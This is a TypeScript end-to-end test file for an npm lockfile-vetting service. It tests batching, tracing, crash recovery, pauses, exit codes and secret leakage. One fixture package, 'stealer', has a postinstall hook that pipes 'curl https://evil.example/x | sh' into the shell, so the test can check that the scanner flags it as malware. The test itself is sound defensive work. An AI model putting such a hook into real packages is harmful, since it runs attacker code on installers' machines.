import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { startStack, stackServices, stateFolder, type Stack } from '@sluice/embedded';
import { natsKeyFile, natsUsers, passwordFile, postgresUsers } from '@sluice/rights';
import type { StoredSpan } from '@sluice/runtime';
import { fakeNpmRegistry, packageLock } from '@sluice/ecosystems/npm/testkit';
import { freePort } from '@sluice/servers';
import { findRepositoryRoot, waitFor, zipOf } from '@sluice/testkit';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { secretsBelow, secretsIn } from './secrets-found.ts';

/** The whole stack, each service its own process, against a registry that only this file knows. */
const registry = await fakeNpmRegistry();
const run = promisify(execFile);
const cli = path.join(findRepositoryRoot(), 'cli/dist/main.js');
const folder = await mkdtemp(path.join(tmpdir(), 'sluice-e2e-'));
let stack: Stack;
/** What the registry is shown; it takes anybody. */
const registryToken = `canary-${randomBytes(24).toString('hex')}`;

const publish = (
  name: string,
  manifest: Record<string, unknown> = { license: 'MIT' },
  files?: Record<string, string>,
) =>
  registry.publish({
    name,
    version: '1.0.0',
    manifest,
    publishedAt: '2024-01-01T00:00:00.000Z',
    ...(files ? { files } : {}),
  });

beforeAll(async () => {
  const env = {
    PATH: process.env['PATH'],
    NPM_REGISTRY_URL: registry.url,
    ADVISORIES_URL: 'off',
    NPM_REGISTRY_TOKEN: registryToken,
    SLUICE_NATS_SERVER: process.env['SLUICE_NATS_SERVER'],
  };
  const ports = { port: await freePort(), gatePort: await freePort() };
  stack = await startStack({ stateFolder: folder, services: stackServices, env, split: true, ...ports });
  // One advisory, so that evidence is complete and verdicts can be clean.
  const advisories = path.join(folder, 'advisories');
  await run('mkdir', ['-p', advisories]);
  const affected = [
    {
      package: { ecosystem: 'npm', name: 'vulnerable' },
      ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.0.1' }] }],
    },
  ];
  const record = {
    id: 'TEST-1',
    modified: '2024-01-01T00:00:00Z',
    summary: 'A hole',
    affected,
    database_specific: { severity: 'CRITICAL' },
  };
  await writeFile(path.join(advisories, 'TEST-1.json'), JSON.stringify(record));
  await sluice(['advisories', 'import', advisories], {
    DATABASE_URL_FILE: path.join(stack.info.databaseUrlsFolder!, 'scanner.url'),
  });
}, 120_000);
afterAll(async () => {
  await stack?.stop();
  await rm(folder, { recursive: true, force: true });
});

/** Runs the CLI as its own process. @returns what it printed and its exit code. */
async function sluice(
  args: string[],
  env: Record<string, string> = {},
): Promise<{ code: number; out: string; err: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [cli, ...args], {
      env: { PATH: process.env['PATH'], SLUICE_KEY: stack.info.apiKey ?? '', ...env },
    });
    return { code: 0, out: stdout, err: stderr };
  } catch (error) {
    const { code, stdout, stderr } = error as { code: number; stdout: string; stderr: string };
    return { code, out: stdout, err: stderr };
  }
}

async function lockfile(
  name: string,
  packages: string[],
  pins: Record<string, string> = {},
): Promise<string> {
  const file = path.join(folder, `${name}.json`);
  const locked = packages.map((one) => ({
    name: one,
    version: '1.0.0',
    ...(pins[one] ? { integrity: pins[one] } : {}),
  }));
  await writeFile(file, packageLock(3, locked));
  return file;
}

const vet = (file: string, ...options: string[]) =>
  sluice(['vet', file, '--server', stack.info.apiUrl, ...options]);

const ask = (route: string) =>
  fetch(`${stack.info.apiUrl}${route}`, { headers: { authorization: `Bearer ${stack.info.apiKey}` } });

it('vets a zip of several lockfiles as one batch, by the command line', async () => {
  publish('batched');
  const packages = (name: string) => packageLock(3, [{ name, version: '1.0.0' }]);
  const zip = path.join(folder, 'all.zip');
  await writeFile(
    zip,
    zipOf({
      'a/package-lock.json': packages('batched'),
      'b/package-lock.json': packages('batched'),
      'c.md': '',
    }),
  );
  const done = await sluice(['submit', zip, '--server', stack.info.apiUrl]);
  expect(done).toMatchObject({ code: 0 });
  expect(done.out).toContain('2 lockfiles: 2 fine, 0 need attention.');
  const [, id] = /batch status ([0-9a-f-]{36})/.exec(done.out)!;
  const shown = await sluice(['batch', 'status', id!, '--files', '--server', stack.info.apiUrl]);
  expect(shown.out).toContain('3 files: 2 read, 0 that should be lockfiles and cannot be read, 1 ignored.');
  const report = await sluice(['batch', 'report', id!, '--server', stack.info.apiUrl]);
  expect(JSON.parse(report.out)).toMatchObject({
    packages: [{ purl: 'pkg:npm/batched@1.0.0', files: ['a/package-lock.json', 'b/package-lock.json'] }],
  });
  const events = await fetch(`${stack.info.apiUrl}/v1/batches/${id}/events`, {
    headers: { authorization: `Bearer ${stack.info.apiKey}` },
  });
  const reader = events.body!.getReader();
  let text = '';
  while (!text.includes('event: batch.completed'))
    text += Buffer.from((await reader.read()).value!).toString();
  await reader.cancel();
  for (const type of [
    'batch.submitted',
    'batch.opened',
    'request.submitted',
    'pkg.scanned',
    'request.completed',
  ])
    expect(text).toContain(`event: ${type}\n`);
});

interface PackageView {
  traceId: string;
  outcome: string;
  decision: { state: string } | null;
  verdict: { reasons: { code: string }[] };
  timeline: { type: string; sequence: number; traceId: string }[];
}

async function getPackage(name: string): Promise<PackageView> {
  const response = await ask(`/v1/packages/pkg:npm/${name}@1.0.0`);
  expect(response.status).toBe(200);
  return (await response.json()) as PackageView;
}

it('vets a clean lockfile: exit 0, everything approved, every entry accounted for', async () => {
  ['clean-a', 'clean-b', 'clean-c'].forEach((name) => publish(name));
  const { code, out } = await vet(await lockfile('clean', ['clean-a', 'clean-b', 'clean-c']), '--json');
  const { request, items } = JSON.parse(out) as {
    request: { counts: object; entryCount: number };
    items: { outcome: string }[];
  };
  expect(request).toMatchObject({ counts: { approve: 3 }, entryCount: 3 });
  expect(items.map((item) => item.outcome)).toEqual(['approve', 'approve', 'approve']);
  expect(code).toBe(0);
}, 60_000);

it('names each kind of trouble: exit 1', async () => {
  publish('vulnerable');
  publish('copyleft', { license: 'AGPL-3.0-only' });
  publish('pinned');
  publish('stealer', { license: 'MIT', scripts: { postinstall: 'curl https://evil.example/x | sh' } });
  const packages = ['vulnerable', 'copyleft', 'pinned', 'stealer', 'nowhere'];
  const wrongPin = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
  const { code, out } = await vet(await lockfile('trouble', packages, { pinned: wrongPin }));
  expect(code).toBe(1);
  expect(out).toMatch(/vulnerable@1\.0\.0\s+review\s+advisory\.critical/);
  expect(out).toMatch(/copyleft@1\.0\.0\s+review\s+license\.review/);
  expect(out).toMatch(/pinned@1\.0\.0\s+reject\s+integrity\.mismatch/);
  expect(out).toMatch(/stealer@1\.0\.0\s+(review|reject)\s+malware\./);
  expect(out).toMatch(/nowhere@1\.0\.0\s+failed\s+registry\.version-not-found/);
}, 60_000);

it('lets a person approve an item that waits for a review, and remembers it', async () => {
  const decide = await sluice([
    'approve',
    'pkg:npm/copyleft@1.0.0',
    '--reason',
    'build time only',
    '--by',
    'mira',
    '--server',
    stack.info.apiUrl,
  ]);
  expect(decide).toMatchObject({ code: 0 });
  await waitFor(async () => (await getPackage('copyleft')).decision?.state === 'approved');
  expect((await vet(await lockfile('again', ['copyleft']))).code).toBe(0);
});

it('follows one package through all services in one trace, with the right parents', async () => {
  publish('traced');
  await vet(await lockfile('traced', ['traced']));
  const { traceId, timeline } = await getPackage('traced');
  expect(new Set(timeline.map((entry) => entry.traceId))).toEqual(new Set([traceId]));
  const root = 'aggregator: assess package';
  const chain = [
    ['license: license process', root],
    ['license: publish pkg.licensed.interactive', 'license: license process'],
    ['downloader: downloader process', 'license: publish pkg.licensed.interactive'],
    ['downloader: publish pkg.downloaded.interactive', 'downloader: downloader process'],
    ['scanner: scanner process', 'downloader: publish pkg.downloaded.interactive'],
    ['scanner: publish pkg.scanned.interactive', 'scanner: scanner process'],
    ['aggregator: aggregator process', 'scanner: publish pkg.scanned.interactive'],
  ];
  await waitFor(
    async () => {
      const parents = await parentsByName(traceId);
      return chain.every(([name, parent]) =>
        parents.some((edge) => edge.name === name && edge.parent === parent),
      );
    },
    { what: 'the spans of all services' },
  ).catch(async () => {
    expect(await parentsByName(traceId)).toEqual(
      expect.arrayContaining(chain.map(([name, parent]) => ({ name, parent }))),
    );
  });
}, 60_000);

async function parentsByName(traceId: string): Promise<{ name: string; parent: string | null }[]> {
  const spansFolder = stateFolder(folder).spans;
  const texts = await Promise.all(
    (await readdir(spansFolder)).map((file) => readFile(path.join(spansFolder, file), 'utf8')),
  );
  const spans = texts
    .join('')
    .split('\n')
    .filter((line) => line.includes(traceId))
    .map((line) => JSON.parse(line) as StoredSpan)
    .filter((span) => span.traceId === traceId);
  const nameOf = (span: StoredSpan) => `${span.service}: ${span.name}`;
  const byId = new Map(spans.map((span) => [span.spanId, nameOf(span)]));
  return spans.map((span) => ({
    name: nameOf(span),
    parent: span.parentSpanId && (byId.get(span.parentSpanId) ?? null),
  }));
}

it('loses nothing when every service is killed in mid-run', async () => {
  const names = Array.from({ length: 60 }, (_, index) => `killed-${index}`);
  for (const name of names) {
    const { metadataPath } = publish(name);
    registry.fail(metadataPath, { delayMs: 300, times: 1 });
  }
  const file = await lockfile('killed', names);
  const vetting = vet(file, '--json', '--timeout', '90');
  for (const name of ['scanner', 'license', 'downloader', 'aggregator', 'projector']) {
    await waitFor(async () => (await services()).some((service) => service.name === name), {
      what: `${name} to run`,
    });
    const service = (await services()).find((one) => one.name === name)!;
    process.kill(service.pid, 'SIGKILL');
  }
  const { out } = await vetting;
  const { items } = JSON.parse(out) as { items: { purl: string; outcome: string }[] };
  expect(items.map((item) => item.outcome)).toEqual(names.map(() => 'approve'));
}, 120_000);

async function services(): Promise<{ name: string; pid: number }[]> {
  const records = JSON.parse(await readFile(stateFolder(folder).childrenFile, 'utf8')) as {
    name: string;
    pid: number;
  }[];
  return records.filter(({ name }) => name in stack.info.health);
}

it('assesses a package once for requests that come at the same time', async () => {
  const { metadataPath, tarballPath } = publish('popular');
  const file = await lockfile('popular', ['popular']);
  const results = await Promise.all(Array.from({ length: 5 }, () => vet(file)));
  expect(results.map(({ code }) => code)).toEqual([0, 0, 0, 0, 0]);
  expect(registry.requests(metadataPath)).toBe(1);
  expect(registry.requests(tarballPath)).toBe(1);
}, 60_000);

it('a pause outlives restarts, is shown with its reason, and work goes on when it is resumed', async () => {
  publish('held');
  const registryHost = new URL(registry.url).host;
  const server = ['--server', stack.info.apiUrl];
  const hold = (...args: string[]) =>
    sluice([...args, '--reason', 'the disk is replaced', '--by', 'mira', ...server]);
  expect(await hold('pause', 'stage', 'scan')).toMatchObject({ code: 0 });
  expect(await hold('pause', 'host', registryHost)).toMatchObject({ code: 0 });
  // Whoever starts anew has to find out; that the host is paused keeps the package away from the scanner until then.
  for (const name of ['scanner', 'aggregator']) {
    const { pid } = (await services()).find((one) => one.name === name)!;
    process.kill(pid, 'SIGKILL');
    const isBack = async () => (await services()).some((one) => one.name === name && one.pid !== pid);
    await waitFor(isBack, { what: `${name} to run again`, timeoutMs: 40_000 });
  }
  const vetting = vet(await lockfile('held', ['held']), '--json');
  const statusSays = (text: string) =>
    waitFor(
      async () => {
        const response = await ask('/v1/requests?limit=1');
        const { items } = (await response.json()) as { items: { id: string }[] };
        const newest = items[0];
        return (await sluice(['status', newest!.id, ...server])).out.includes(text);
      },
      // Each look is a process of its own.
      { what: text, timeoutMs: 40_000 },
    );
  await statusSays(`${registryHost} is paused by mira`);
  await hold('resume', 'host', registryHost);
  await statusSays('scan is paused by mira');
  const workers = (await sluice(['workers', ...server])).out;
  for (const name of Object.keys(stack.info.health)) expect(workers).toMatch(new RegExp(`^${name}/`, 'm'));
  expect(workers).toMatch(/scanner\/\S+ +\d+\.\d+\.\d+ +stage scan +paused/);
  await hold('resume', 'stage', 'scan');
  const { items } = JSON.parse((await vetting).out) as { items: { outcome: string }[] };
  expect(items).toMatchObject([{ outcome: 'approve' }]);
  const timeline = (await getPackage('held')).timeline.map(({ type }) => type);
  expect(timeline).not.toContain('pkg.attempt-failed');
  expect((await sluice(['controls', ...server])).out).toBe('Nothing is paused or drained.\n');
}, 180_000);

it('has read models that equal a rebuild from the events', async () => {
  const { natsUrl: NATS_URL, artifactsFolder: ARTIFACTS_DIR } = stack.info;
  const DATABASE_URL_FILE = path.join(stack.info.databaseUrlsFolder!, 'projector.url');
  const { code, out, err } = await sluice(['projection', 'verify'], {
    NATS_URL,
    NATS_NKEY_FILE: natsKeyFile(stack.info.natsKeysFolder!, 'cli'),
    DATABASE_URL_FILE,
    ARTIFACTS_DIR,
  });
  expect({ code, out, err }).toMatchObject({
    code: 0,
    out: expect.stringContaining('exactly what the events say'),
  });
}, 60_000);

it('tells usage errors, timeouts and server trouble apart by exit code', async () => {
  expect((await vet('/nonexistent/package-lock.json')).code).toBe(2);
  expect((await sluice(['vet', 'x', '--unknown'])).code).toBe(2);
  const broken = path.join(folder, 'broken.json');
  await writeFile(broken, '{"name":"a","version":"1.0.0"}');
  expect(await vet(broken)).toMatchObject({
    code: 2,
    err: expect.stringContaining('lockfile.unknown-format'),
  });
  const { metadataPath } = publish('endless');
  registry.fail(metadataPath, { hang: true });
  const late = await vet(await lockfile('endless', ['endless']), '--timeout', '1');
  expect(late).toMatchObject({ code: 3, err: expect.stringContaining('status') });
  registry.fail(metadataPath, null);
  expect((await sluice(['vet', broken, '--server', 'http://127.0.0.1:9'])).code).toBe(4);
}, 60_000);

/** Everything that is secret in this installation, by what it is. */
async function secrets(): Promise<Record<string, string>> {
  const { natsKeysFolder, databaseUrlsFolder, databaseUrl, apiKey } = stack.info;
  const found: Record<string, string> = {
    registryToken,
    apiKey: apiKey!,
    admin: new URL(databaseUrl).password,
  };
  for (const user of natsUsers)
    found[`seed of ${user}`] = await readFile(natsKeyFile(natsKeysFolder!, user), 'utf8');
  for (const user of postgresUsers)
    found[`password of ${user}`] = await readFile(passwordFile(databaseUrlsFolder!, user), 'utf8');
  return Object.fromEntries(Object.entries(found).map(([name, secret]) => [name, secret.trim()]));
}

it('writes no secret into logs, traces, events, files or answers, also when its servers die', async () => {
  const headers = { authorization: `Bearer ${stack.info.apiKey}`, 'content-type': 'application/json' };
  const made = await fetch(`${stack.info.apiUrl}/v1/keys`, {
    method: 'POST',
    headers,
    body: JSON.stringify({
      name: 'ci',
      kind: 'service',
      roles: ['viewer'],
      scopes: null,
      days: 1,
      reason: 'tried',
    }),
  });
  const { key } = (await made.json()) as { key: string };
  const wrong = `slc_${randomBytes(32).toString('base64url')}`;
  const canaries = { ...(await secrets()), key, wrong };
  expect(Object.values(canaries).filter((secret) => secret.length < 32)).toEqual([]);

  const servers = JSON.parse(await readFile(stateFolder(folder).childrenFile, 'utf8')) as {
    name: string;
    pid: number;
  }[];
  for (const { name, pid } of servers)
    if (name === 'nats-server' || name === 'postgres') process.kill(pid, 'SIGKILL');
  await waitFor(async () => (await vet(await lockfile('canary', ['clean-a']), '--json')).code === 0, {
    what: 'the servers to be back',
    timeoutMs: 60_000,
  });

  const asked = [
    'requests',
    'packages',
    'batches',
    'workers',
    'queues',
    'controls',
    'dead-letters',
    'audit',
    'keys',
    'replays',
    'status',
    'stats',
    'me',
  ];
  const routes = [...asked.map((name) => `/v1/${name}`), '/readyz', '/metrics', '/openapi.json', '/docs'];
  for (const bearer of [stack.info.apiKey!, key, wrong])
    for (const route of routes) {
      const answer = await fetch(`${stack.info.apiUrl}${route}`, {
        headers: { authorization: `Bearer ${bearer}` },
      });
      expect([route, secretsIn(Buffer.from(await answer.arrayBuffer()), canaries)]).toEqual([route, []]);
      const installed = await fetch(`${stack.info.gateUrl}/npm/clean-a`, {
        headers: { authorization: `Bearer ${bearer}` },
      });
      expect(secretsIn(Buffer.from(await installed.arrayBuffer()), canaries)).toEqual([]);
    }
  const { logs, spans, nats, artifacts, runFile } = stateFolder(folder);
  for (const written of [logs, spans, nats, artifacts])
    expect(await secretsBelow(written, canaries)).toEqual([]);
  // The search finds what is there: this file is for the owner alone.
  expect(secretsIn(await readFile(runFile), canaries)).toEqual(['apiKey', 'admin']);
}, 120_000);
